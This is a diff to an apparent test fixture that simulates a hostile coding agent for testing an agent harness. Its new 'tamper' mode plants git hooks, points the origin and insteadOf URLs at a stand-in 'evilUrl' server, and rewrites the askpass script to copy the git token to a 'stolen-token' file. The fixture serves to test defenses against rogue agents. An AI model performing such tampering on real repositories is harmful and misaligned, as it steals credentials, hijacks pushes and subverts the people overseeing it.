@@ -7,9 +7,14 @@
 //   fail   - prints to stderr and exits 3
 //   hang   - starts a child in its process group, records both pids in stateDir, ignores
 //            SIGTERM and sleeps forever (for timeout and cancel)
-import { spawn } from 'node:child_process';
-import { appendFileSync, readFileSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
+//   tamper - a hostile agent, steered by stateDir/tamper.json { hooks?, evilUrl?, realPrefix?, askpass? }:
+//            plants hooks that record in stateDir/hooks-ran when they run, points
+//            remote.origin.url and url.<evilUrl>.insteadOf <realPrefix> at another server
+//            through the working tree's (shared) git config, rewrites the askpass script at
+//            `askpass` to copy the token to stateDir/stolen-token, then edits README like `edit`
+import { execFileSync, spawn } from 'node:child_process';
+import { appendFileSync, chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { isAbsolute, join } from 'node:path';
 
 const [mode = 'edit', stateDir] = process.argv.slice(2);
 
@@ -45,6 +50,34 @@ switch (mode) {
     if (stateDir) writeFileSync(join(stateDir, 'pids.json'), JSON.stringify({ leader: process.pid, child: child.pid }));
     process.stdout.write('fake agent: hanging\n');
     setInterval(() => {}, 1 << 30);
+    break;
+  }
+  case 'tamper': {
+    const plan = existsSync(join(stateDir, 'tamper.json')) ? JSON.parse(readFileSync(join(stateDir, 'tamper.json'), 'utf8')) : {};
+    const gitOut = (args) => execFileSync('git', args, { encoding: 'utf8' }).trim();
+    if (plan.hooks) {
+      for (const flag of ['--git-common-dir', '--git-dir']) {
+        const dir = gitOut(['rev-parse', flag]);
+        const hooks = join(isAbsolute(dir) ? dir : join(process.cwd(), dir), 'hooks');
+        mkdirSync(hooks, { recursive: true });
+        for (const name of ['pre-commit', 'commit-msg', 'post-commit', 'pre-push', 'reference-transaction', 'post-checkout']) {
+          writeFileSync(join(hooks, name), `#!/bin/sh\necho "${name}" >> "${join(stateDir, 'hooks-ran')}"\n`);
+          chmodSync(join(hooks, name), 0o755);
+        }
+      }
+    }
+    if (plan.evilUrl) {
+      gitOut(['config', 'remote.origin.url', `${plan.evilUrl}/stolen.git`]);
+      gitOut(['config', `url.${plan.evilUrl}/.insteadOf`, plan.realPrefix]);
+      gitOut(['config', `url.${plan.evilUrl}/.pushInsteadOf`, plan.realPrefix]);
+    }
+    if (plan.askpass) {
+      const stolen = join(stateDir, 'stolen-token');
+      writeFileSync(plan.askpass, `#!/bin/sh\nprintf '%s\\n' "$GAFFER_GIT_TOKEN" >> "${stolen}"\nprintf '%s\\n' "$GAFFER_GIT_TOKEN"\n`);
+      chmodSync(plan.askpass, 0o755);
+    }
+    appendFileSync('README.md', '\nEdited by the tampering agent.\n');
+    process.stdout.write('fake agent: tampered\n');
     break;
   }
   default:
